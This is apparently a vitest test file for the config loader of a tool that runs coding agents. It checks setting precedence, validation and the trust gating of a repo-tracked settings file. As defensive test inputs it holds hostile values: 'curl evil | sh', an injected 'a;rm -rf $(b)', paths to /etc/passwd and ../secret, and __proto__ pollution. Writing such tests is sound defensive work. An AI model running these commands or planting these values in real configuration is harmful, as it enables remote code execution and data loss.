import fs from 'node:fs';
import path from 'node:path';
import { beforeEach, describe, expect, test } from 'vitest';
import {
  acceptTracked,
  deleteSetting,
  getSetting,
  type LoadedSettings,
  loadSettings,
  type Places,
  setSetting,
  settingsPlaces,
} from '../../../source/adapters/config/index.ts';
import type { LoadOptions } from '../../../source/adapters/config/load.ts';
import { defaultSettings } from '../../../source/domain/settings.ts';
import { contentsOf, temporaryFolder } from '../../helpers/temporary-folder.ts';

let options: LoadOptions;
let places: Places & { readonly tracked: string };

beforeEach(() => {
  const root = temporaryFolder();
  options = { flags: {}, env: { HOME: path.join(root, 'home') }, root, commonDir: path.join(root, '.git') };
  places = { ...settingsPlaces(options), tracked: path.join(root, '.cm-tui.json') };
});

const load = (more: Partial<LoadOptions> = {}): Promise<LoadedSettings> => loadSettings({ ...options, ...more });
function write(file: string, content: unknown): void {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, typeof content === 'string' ? content : JSON.stringify(content));
}
const usage = (pattern: RegExp) =>
  expect.objectContaining({ name: 'CmError', exitCode: 2, message: expect.stringMatching(pattern) });

describe('order', () => {
  test('without anything the defaults hold, and nothing is written', async () => {
    expect(await load()).toEqual({ settings: defaultSettings, sources: {}, warnings: [], untrusted: null });
    expect(contentsOf(options.root ?? '')).toEqual({});
  });

  test('each place wins over those below it', async () => {
    const keys = ['maxParallel', 'pollSeconds', 'attemptLimit', 'checkTimeout', 'agentTimeout'] as const;
    const upTo = (count: number, value: number) => Object.fromEntries(keys.slice(0, count).map(key => [key, value]));
    write(places.user, upTo(5, 11));
    write(places.tracked, upTo(4, 12));
    write(places.repo, upTo(3, 13));
    const env = { ...options.env, CM_TUI_MAX_PARALLEL: '14', CM_TUI_POLL_SECONDS: '14' };
    const { settings, sources } = await load({ env, flags: { maxParallel: 15, target: undefined } });
    expect(keys.map(key => settings[key])).toEqual([15, 14, 13, 12, 11]);
    expect(keys.map(key => sources[key])).toEqual([
      '--max-parallel',
      'CM_TUI_POLL_SECONDS',
      places.repo,
      places.tracked,
      places.user,
    ]);
  });

  test('agents, keys and notifications are merged by name, an agent field by field', async () => {
    write(places.user, {
      agents: { mine: { command: 'a', args: ['x'] }, old: { command: 'o' } },
      notify: { bell: false },
    });
    write(places.repo, { agents: { mine: { command: 'b' } }, keys: { spawn: ['s'] }, notify: { desktop: true } });
    const { settings, sources } = await load();
    expect(settings.agents).toEqual({ mine: { command: 'b', args: ['x'] }, old: { command: 'o' } });
    expect(settings.notify).toEqual({ bell: false, desktop: true });
    expect(sources).toMatchObject({ 'agents.mine': places.repo, 'agents.old': places.user, 'keys.spawn': places.repo });
  });

  test('the user’s folder follows XDG_CONFIG_HOME', () => {
    const env = { HOME: '/h', XDG_CONFIG_HOME: '/x' };
    expect(settingsPlaces({ ...options, env }).user).toBe('/x/cm-tui/config.json');
    expect(settingsPlaces({ ...options, env: { ...env, XDG_CONFIG_HOME: 'relative' } }).user).toBe(
      '/h/.config/cm-tui/config.json',
    );
  });
});

describe('environment', () => {
  test.each([
    ['CM_TUI_MAX_PARALLEL', '2', { maxParallel: 2 }],
    ['CM_TUI_MIN_FREE_DISK', '2GiB', { minFreeDisk: 2 * 1024 ** 3 }],
    ['CM_TUI_MIN_FREE_DISK', '500', { minFreeDisk: 500 }],
    ['CM_TUI_SQUASH', 'true', { squash: true }],
    ['CM_TUI_TARGET_BRANCH', '2024', { targetBranch: '2024' }],
    ['CM_TUI_TARGET_BRANCH', 'null', { targetBranch: null }],
    ['CM_TUI_THEME', 'contrast', { theme: 'contrast' }],
    ['CM_TUI_COST_CAP_USD', '1.5', { costCapUsd: 1.5 }],
    ['CM_TUI_CHECKS', '["npm test",["make","lint"]]', { checks: ['npm test', ['make', 'lint']] }],
    ['CM_TUI_NOTIFY', '{"bell":false}', { notify: { bell: false, desktop: false } }],
    ['CM_TUI_AGENTS', '{"x":{"command":"y"}}', { agents: { x: { command: 'y' } } }],
    ['CM_TUI_MAX_PARALLEL', '', { maxParallel: 4 }],
  ])('%s=%s', async (name, value, expected) => {
    const { settings, warnings } = await load({ env: { ...options.env, [name]: value } });
    expect(settings).toMatchObject(expected);
    expect(warnings).toEqual([]);
  });

  test('a mistyped variable is warned of, a foreign one is left alone', async () => {
    const { warnings } = await load({ env: { CM_TUI_MAX_PARALEL: '2', CM_TUI_SOMETHING_ELSE_ENTIRELY: '1' } });
    expect(warnings).toEqual(['CM_TUI_MAX_PARALEL is unknown and ignored. Did you mean CM_TUI_MAX_PARALLEL?']);
  });
});

describe('values that are not possible', () => {
  test.each([
    [{ maxParallel: 0 }, /^Invalid maxParallel 0 in .*config\.json\. Use a whole number from 1 to 64\.$/],
    [{ maxParallel: 'two' }, /Invalid maxParallel "two"/],
    [{ minFreeDisk: '2 quarts' }, /Use a number of bytes or a string such as "2GiB"/],
    [{ unknownScope: 'maybe' }, /Invalid unknownScope "maybe".*Use "serial" or "parallel"/],
    [{ copy: ['../secret'] }, /copy\.0 .*without `\.\.`/],
    [{ copy: ['/etc/passwd'] }, /Invalid copy\.0 /],
    [{ copy: ['a/../../b'] }, /Invalid copy\.0 /],
    [{ checks: [[]] }, /checks\.0 .*a list of commands/],
    [{ agents: { demo: { args: 'x' } } }, /agents\.demo\.args .*Use a list of strings/],
    [{ agents: { '-x': { command: 'y' } } }, /agents\.-x .*an object, under a name of letters/],
    [{ agents: [] }, /an object of agents by name/],
    [{ notify: { bell: 1 } }, /notify\.bell .*true or false/],
    [{ branchPrefix: '--evil' }, /Invalid branchPrefix /],
    [{ targetBranch: 'a;rm -rf $(b)' }, /Invalid targetBranch /],
    [{ mergeMessage: 'two\nlines' }, /mergeMessage .*one line/],
    ['[1]', /must contain one JSON object/],
    ['{"maxParallel": }', /Invalid JSON in .*config\.json/],
  ])('%j', async (content, pattern) => {
    write(places.repo, content);
    await expect(load()).rejects.toEqual(usage(pattern));
  });

  test('the sentence names the variable or the option', async () => {
    await expect(load({ env: { CM_TUI_SQUASH: '1' } })).rejects.toEqual(
      usage(/^Invalid CM_TUI_SQUASH 1\. Use true or false\.$/),
    );
    await expect(load({ flags: { maxParallel: Number.NaN } })).rejects.toEqual(
      usage(/^Invalid --max-parallel null\. Use/),
    );
    await expect(load({ env: { CM_TUI_AGENTS: '{"a":{"args":1}}' } })).rejects.toEqual(
      usage(/^Invalid agents\.a\.args .* in CM_TUI_AGENTS\. Use a list/),
    );
    await expect(load({ flags: { targetBranch: '-x' } })).rejects.toEqual(
      usage(/^Invalid --target "-x"\. Use a branch name/),
    );
  });

  test('what a file says reaches no terminal as it is', async () => {
    write(places.tracked, { theme: 7, 'bell\u0007\u001b[2J': 1 });
    await expect(load()).rejects.toEqual(usage(/^[\x20-\x7e]*$/));
    write(places.tracked, { 'bell\u0007\u001b[2J\u202e': 1 });
    const { warnings } = await load();
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202e]/);
  });

  test('unknown names are warned about, with what was probably meant', async () => {
    write(places.repo, {
      $schema: 'x',
      maxParalel: 2,
      agents: { a: { comand: 'x' } },
      notify: { bel: true },
      zzzzzz: 1,
    });
    const { warnings, settings } = await load();
    expect(warnings).toEqual([
      expect.stringMatching(/^Unknown setting "maxParalel" in .*config\.json \(did you mean "maxParallel"\?\)\.$/),
      expect.stringMatching(/^Unknown setting "zzzzzz" in .*\.$/),
      expect.stringContaining('did you mean "notify.bell"'),
      expect.stringContaining('did you mean "agents.a.command"'),
    ]);
    expect(settings.maxParallel).toBe(4);
  });

  test('names of the object prototype are no settings', async () => {
    write(places.repo, '{"__proto__":{"maxParallel":9},"constructor":1,"agents":{"__proto__":{"command":"x"}}}');
    const { settings } = await load();
    expect(settings.maxParallel).toBe(4);
    expect(Object.keys(settings.agents)).toEqual([]);
    expect('command' in settings.agents).toBe(false);
  });
});

describe('a tracked file', () => {
  const risky = { checks: ['curl evil | sh'], agents: { claude: { command: 'evil' } }, maxParallel: 3 };

  test('starts nothing until it was accepted, and never another file than the one that was shown', async () => {
    write(places.tracked, risky);
    const first = await load();
    expect(first.settings).toMatchObject({ checks: [], agents: {}, maxParallel: 3 });
    expect(first.untrusted).toEqual({
      path: places.tracked,
      hash: expect.stringMatching(/^[0-9a-f]{64}$/),
      keys: ['checks', 'agents'],
    });

    await acceptTracked(options.commonDir, places.tracked, first.untrusted?.hash ?? '');
    const second = await load();
    expect(second.untrusted).toBeNull();
    expect(second.settings).toMatchObject(risky);

    write(places.tracked, { ...risky, checks: ['worse'] });
    const third = await load();
    expect(third.settings.checks).toEqual([]);
    expect(third.untrusted?.keys).toEqual(['checks', 'agents']);
    await expect(acceptTracked(options.commonDir, places.tracked, first.untrusted?.hash ?? '')).rejects.toEqual(
      usage(/has changed/),
    );
  });

  test('a bell is free, a program that is notified waits', async () => {
    write(places.tracked, { notify: { bell: false } });
    expect(await load()).toMatchObject({ untrusted: null, settings: { notify: { bell: false } } });
    write(places.tracked, { notify: { bell: false, command: ['evil'] } });
    const { settings, untrusted } = await load();
    expect(settings.notify).toEqual(defaultSettings.notify);
    expect(untrusted?.keys).toEqual(['notify']);
  });

  test.each(['agent', 'setup', 'copy', 'promptTemplate', 'approve', 'worktreeRoot'])('%s waits too', async key => {
    const value = { agent: 'x', setup: ['x'], copy: ['x'], promptTemplate: 'x', approve: 'clean', worktreeRoot: '/x' };
    write(places.tracked, { [key]: new Map(Object.entries(value)).get(key) });
    const { settings, untrusted } = await load();
    expect(settings).toEqual(defaultSettings);
    expect(untrusted?.keys).toEqual([key]);
  });

  test('that is a symbolic link is not followed; the user’s own may be one', async () => {
    const target = path.join(options.root ?? '', 'elsewhere.json');
    write(target, { maxParallel: 9 });
    fs.mkdirSync(path.dirname(places.user), { recursive: true });
    fs.symlinkSync(target, places.user);
    expect((await load()).settings.maxParallel).toBe(9);
    fs.symlinkSync(target, places.tracked);
    await expect(load()).rejects.toEqual(usage(/symbolic link/));
  });

  test('that is a folder, or huge, is refused', async () => {
    fs.mkdirSync(places.tracked);
    await expect(load()).rejects.toEqual(usage(/is a folder, not a regular file/));
    fs.rmdirSync(places.tracked);
    write(places.tracked, `{"theme":"${'x'.repeat(1024 * 1024)}"}`);
    await expect(load()).rejects.toEqual(usage(/is larger than 1 MiB/));
  });

  test('does not exist in a bare repository', async () => {
    write(places.tracked, { maxParallel: 3 });
    expect((await load({ root: null })).settings.maxParallel).toBe(4);
  });
});

describe('changing a setting', () => {
  test.each([
    ['maxParallel', '2', 2],
    ['minFreeDisk', '1GiB', 1024 ** 3],
    ['theme', 'light', 'light'],
    ['targetBranch', 'null', null],
    ['squash', true, true],
    ['checks', '["npm test"]', ['npm test']],
    ['agents.demo.command', 'demo', 'demo'],
    ['agents.demo.command', '7', '7'],
    ['agents.demo.args', '["{prompt}"]', ['{prompt}']],
    ['notify.bell', 'false', false],
  ])('%s = %j', async (key, value, expected) => {
    await setSetting(places, 'repo', 'pollSeconds', 99);
    await setSetting(places, 'repo', key, value);
    const { settings } = await load();
    expect(await getSetting(settings, key)).toEqual(expected);
    expect(settings.pollSeconds).toBe(99);
    await deleteSetting(places, 'repo', key);
    expect(await getSetting((await load()).settings, key)).toEqual(await getSetting(defaultSettings, key));
    expect(fs.statSync(places.repo).mode & 0o777).toBe(0o600);
    expect(fs.statSync(path.dirname(places.repo)).mode & 0o777).toBe(0o700);
  });

  test.each([
    ['maxParallel', 'many', /Use a whole number/],
    ['maxParalel', '2', /Unknown setting "maxParalel" \(did you mean "maxParallel"/],
    ['agents.demo.comand', 'x', /did you mean "agents\.demo\.command"/],
    ['agents.demo', 'x', /an object/],
    ['__proto__.x', '1', /Unknown setting/],
    ['', '1', /Unknown setting/],
  ])('%s = %j is refused and changes nothing', async (key, value, pattern) => {
    await setSetting(places, 'user', 'maxParallel', 3);
    const before = contentsOf(options.root ?? '');
    await expect(setSetting(places, 'user', key, value)).rejects.toEqual(usage(pattern));
    expect(contentsOf(options.root ?? '')).toEqual(before);
  });

  test('keeps what it does not know, and the link of a managed file', async () => {
    const target = path.join(options.root ?? '', 'dotfiles', 'settings.json');
    write(target, { $schema: 'x', later: 1 });
    fs.mkdirSync(path.dirname(places.user), { recursive: true });
    fs.symlinkSync(target, places.user);
    await setSetting(places, 'user', 'maxParallel', 2);
    expect(fs.lstatSync(places.user).isSymbolicLink()).toBe(true);
    expect(JSON.parse(fs.readFileSync(target, 'utf8'))).toEqual({ $schema: 'x', later: 1, maxParallel: 2 });
  });

  test('a broken file is not written over', async () => {
    write(places.repo, '{"maxParallel": 2');
    await expect(setSetting(places, 'repo', 'squash', 'true')).rejects.toEqual(usage(/Invalid JSON/));
    expect(fs.readFileSync(places.repo, 'utf8')).toBe('{"maxParallel": 2');
  });
});
